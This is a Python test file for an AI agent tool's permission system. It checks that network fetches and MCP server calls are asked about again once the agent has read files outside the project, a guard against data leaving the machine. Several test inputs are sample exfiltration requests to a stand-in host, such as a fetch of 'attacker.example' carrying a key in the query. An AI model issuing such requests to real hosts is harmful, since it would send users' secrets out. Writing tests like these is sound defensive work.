"""What may leave the machine: hosts and servers are asked about once, and again once something outside was read."""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import Literal

import pytest

from agent_tui.config import PermissionMode
from agent_tui.models.events import RuleOffer
from agent_tui.models.session import SessionState
from agent_tui.tools.base import Intent, ServerTool
from agent_tui.tools.permissions.permissions import Permissions
from agent_tui.tools.permissions.reach import ProjectHosts, SessionReach
from agent_tui.tools.rules.decision import Decision
from agent_tui.tools.rules.rule import checked_rules
from agent_tui.urls import hosts_in, parse_url
from tests.support.every import every
from tests.support.tool_context import Make

pytestmark = pytest.mark.quick

LOOKS = ServerTool("docs", "search", only_looks=True)
CLOSED = ServerTool("memory", "read_graph", only_looks=True, open_world=False)
WRITES = ServerTool("github", "merge_pull_request")
SAVES = ServerTool("memory", "create_entities", open_world=False)


def fetch(url: str) -> Intent:
    return Intent("network", "fetch", url=url)


def call(called: ServerTool) -> Intent:
    return Intent("mcp", "call", server=called)


def judged(permissions: Permissions, intent: Intent) -> Decision:
    server = intent.server
    tool = f"mcp__{server.server}__{server.tool}" if server is not None else "fetch"
    return permissions.decide(tool, intent)


def run(
    permissions: Permissions, intent: Intent, yes: str | None = None, lasts: Literal["project", "session"] = "session"
) -> bool:
    """Whether a call was asked about; it runs after a yes, ``yes`` is the rule that was chosen with it: the first for
    the session where nothing is said, none where that is empty."""
    decision = judged(permissions, intent)
    assert decision.action != "deny"
    yes = next(iter(decision.session), "") if yes is None else yes
    if decision.action == "ask" and yes:
        assert yes in (decision.patterns if lasts == "project" else decision.session)
        permissions.accept(RuleOffer((yes,), lasts))
    permissions.passed("fetch", intent, decision)
    return decision.action == "ask"


def see(permissions: Permissions, path: Path) -> None:
    intent = Intent("read", "read", [path])
    permissions.passed("read", intent, permissions.decide("read", intent))


@every("mode", ["ask", "accept-edits", "auto"])
def test_a_host_is_asked_about_once_and_again_after_something_outside_was_read(
    make: Make, mode: PermissionMode
) -> None:
    permissions = make(mode)
    assert run(permissions, fetch("https://attacker.example/?q=key"))
    assert not run(permissions, fetch("https://attacker.example/?q=other"))
    assert run(permissions, fetch("https://sub.attacker.example/"))
    permissions.reach.name("see https://docs.example.org/x and www.example.com")
    assert not run(permissions, fetch("https://docs.example.org/y?z"))
    assert not run(permissions, fetch("https://example.com/"))
    see(permissions, permissions.root / "a.py")
    assert not run(permissions, fetch("https://docs.example.org/"))
    see(permissions, Path("/home/somebody/notes"))
    for url in ("https://docs.example.org/", "https://attacker.example/"):
        decision = judged(permissions, fetch(url))
        assert decision.action == "ask" and "/home/somebody/notes" in decision.reason
        assert run(permissions, fetch(url)) and not run(permissions, fetch(url))
    permissions.attached([Path("/home/somebody/else"), permissions.root / "b.py"])
    assert run(permissions, fetch("https://docs.example.org/"))


def test_a_rule_is_the_users_word_for_a_host_and_the_refusal_names_it(make: Make) -> None:
    headless = make("auto", can_ask=False)
    refusal = judged(headless, fetch("https://docs.example.org/"))
    assert refusal.action == "deny" and "--allow 'fetch(docs.example.org)'" in refusal.message
    allowed = make("auto", can_ask=False, allow=["fetch(docs.example.org)"])
    see(allowed, Path("/home/somebody/notes"))
    assert judged(allowed, fetch("https://docs.example.org/")).action == "allow"


def test_what_a_command_outside_the_sandbox_or_a_server_showed_counts(make: Make) -> None:
    permissions = make("auto", holds=lambda domain: True)
    permissions.reach.name("https://example.org")
    permissions.passed("bash", Intent("command", "x", command="x"), Decision("allow", domain="work"))
    assert not run(permissions, fetch("https://example.org/"))
    permissions.passed("bash", Intent("command", "x", command="x"), Decision("allow", domain="free"))
    assert run(permissions, fetch("https://example.org/"))
    run(permissions, call(CLOSED))
    assert run(permissions, fetch("https://example.org/"))


def test_what_was_read_is_known_when_the_session_is_opened_again(make: Make) -> None:
    permissions = make("auto")
    permissions.reach.name("https://example.org")
    see(permissions, Path("/home/somebody/notes"))
    state = permissions.reach.kept(SessionState())
    again = make("auto")
    again.reach.load(state)
    assert "notes" in judged(again, fetch("https://example.org/")).reason
    again.reach.load(SessionState())
    assert "neither you" in judged(again, fetch("https://example.org/")).reason


@every(
    ("text", "hosts"),
    [
        ("https://Docs.Python.org/3?x, http://a.b:80/ and www.example.com.", ["docs.python.org", "a.b", "example.com"]),
        ("look at setup.py, README.md, main.rs, a.so and run.sh", []),
        ("me@example.com wrote x.example.com/y", ["x.example.com"]),
        ("https:///nothing ftp://x.example.com", []),
    ],
)
def test_what_names_a_host(text: str, hosts: list[str]) -> None:
    assert hosts_in(text) == hosts


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    (tmp_path / "README.md").write_text(
        "See <https://docs.example.org/guide>, https://api.example.net/v1/items?all=1 and https://example.community."
    )
    commit(tmp_path)
    return tmp_path


def commit(root: Path) -> None:
    who = ["-c", "user.name=x", "-c", "user.email=x@y"]
    for arguments in (["init", "-q"], ["add", "-A"], [*who, "commit", "-qm", "x", "--no-verify"]):
        subprocess.run(["git", *arguments], cwd=root, check=True)


def test_the_projects_files_name_hosts_as_they_were_committed_when_the_session_began(repository: Path) -> None:
    project = ProjectHosts(repository)
    (repository / "README.md").write_text("https://attacker.example/")
    commit(repository)
    (repository / "new.md").write_text("https://other.example/")

    def named(url: str) -> bool:
        return project.name(parse_url(url))

    assert named("https://docs.example.org/guide") and named("https://docs.example.org/other/page")
    assert named("https://api.example.net/v1/items?all=1#part")
    assert not named("https://api.example.net/v1/items?all=key"), "what has a query stands there itself"
    assert not named("https://docs.example.org/" + "x" * 300)
    assert not named("https://attacker.example/") and not named("https://other.example/")
    assert (
        not named("https://example.com/") and not named("https://ample.org/") and not named("https://docsXexample.org/")
    )
    assert not ProjectHosts(repository.parent / "nowhere").name(parse_url("https://docs.example.org/"))


def test_project_hosts_need_no_question_until_something_outside_was_read(make: Make, repository: Path) -> None:
    permissions = make("auto", reach=SessionReach(ProjectHosts(repository)))
    assert not run(permissions, fetch("https://docs.example.org/guide"))
    see(permissions, Path("/home/somebody/notes"))
    assert run(permissions, fetch("https://docs.example.org/guide"))


@every("mode", ["accept-edits", "auto"])
def test_reading_tools_of_a_server_are_asked_about_once_a_server(make: Make, mode: PermissionMode) -> None:
    permissions = make(mode)
    assert run(permissions, call(LOOKS), yes="mcp(docs)") and not run(permissions, call(LOOKS))
    assert not run(permissions, call(ServerTool("docs", "other", only_looks=True)))
    assert run(permissions, call(CLOSED)), "another server"
    # What one server said may now leave through another that reaches further; its own does not count.
    decision = judged(permissions, call(LOOKS))
    assert decision.action == "ask" and "memory" in decision.reason
    assert run(permissions, call(LOOKS)) and not run(permissions, call(LOOKS))
    see(permissions, Path("/home/somebody/notes"))
    assert not run(permissions, call(CLOSED)), "it stays within the server"
    assert run(permissions, call(LOOKS)) and not run(permissions, call(LOOKS))


@every("mode", ["ask", "accept-edits", "auto"])
def test_tools_that_change_something_are_asked_about_each_time_until_a_rule_names_them(
    make: Make, mode: PermissionMode
) -> None:
    permissions = make(mode)
    for tool in (WRITES, SAVES):
        assert run(permissions, call(tool), yes="") and run(permissions, call(tool), yes="")
    assert run(permissions, call(WRITES), yes="mcp(github.merge_pull_request)")
    assert run(permissions, call(SAVES), yes="mcp(memory.create_entities)")
    assert not run(permissions, call(WRITES)) and not run(permissions, call(SAVES))
    assert run(permissions, call(ServerTool("github", "create_issue")))
    see(permissions, Path("/home/somebody/notes"))
    assert run(permissions, call(WRITES)) and not run(permissions, call(SAVES))


def test_in_ask_what_a_server_says_of_its_tool_makes_no_question_needless(make: Make) -> None:
    permissions = make("ask")
    assert run(permissions, call(LOOKS), yes="") and run(permissions, call(LOOKS), yes="")


@every(
    ("rules", "tool", "action"),
    [
        ({"allow": ["mcp(github.merge_pull_request)"]}, WRITES, "allow"),
        ({"allow": ["mcp(github.*)"]}, WRITES, "allow"),
        ({"allow": ["mcp(github.merge_*)"]}, WRITES, "allow"),
        ({"allow": ["mcp"]}, WRITES, "allow"),
        ({"allow": ["github__*"]}, WRITES, "allow"),
        ({"allow": ["mcp__github__merge_pull_request"]}, WRITES, "allow"),
        ({"allow": ["mcp(github)"]}, WRITES, "allow"),
        ({"allow": ["mcp(git.*)"]}, WRITES, "deny"),
        ({"allow": ["mcp(github.merge)"]}, WRITES, "deny"),
        ({"allow": ["mcp(docs)"]}, LOOKS, "allow"),
        ({"allow": ["mcp(docs)"], "deny": ["mcp(docs.search)"]}, LOOKS, "deny"),
        ({"allow": ["mcp(docs.*)"], "deny": ["mcp(docs)"]}, LOOKS, "deny"),
        ({"allow": ["mcp(docs.*)"], "ask": ["mcp(docs)"]}, LOOKS, "deny"),
    ],
)
def test_rules_for_servers_where_nobody_can_be_asked(
    make: Make, rules: dict[str, list[str]], tool: ServerTool, action: str
) -> None:
    for texts in rules.values():
        checked_rules(texts, "permissions.allow")
    decision = judged(make("auto", can_ask=False, **rules), call(tool))
    assert decision.action == action
    if not any(rules.get(key) for key in ("deny", "ask")) and action == "deny":
        assert "--allow 'mcp(github.merge_pull_request)'" in decision.message


def test_always_for_a_tool_is_a_rule_that_holds_after_all_that_is_read(make: Make) -> None:
    permissions = make("auto")
    assert run(permissions, call(WRITES), yes="mcp(github.merge_pull_request)", lasts="project")
    see(permissions, Path("/home/somebody/notes"))
    assert not run(permissions, call(WRITES))
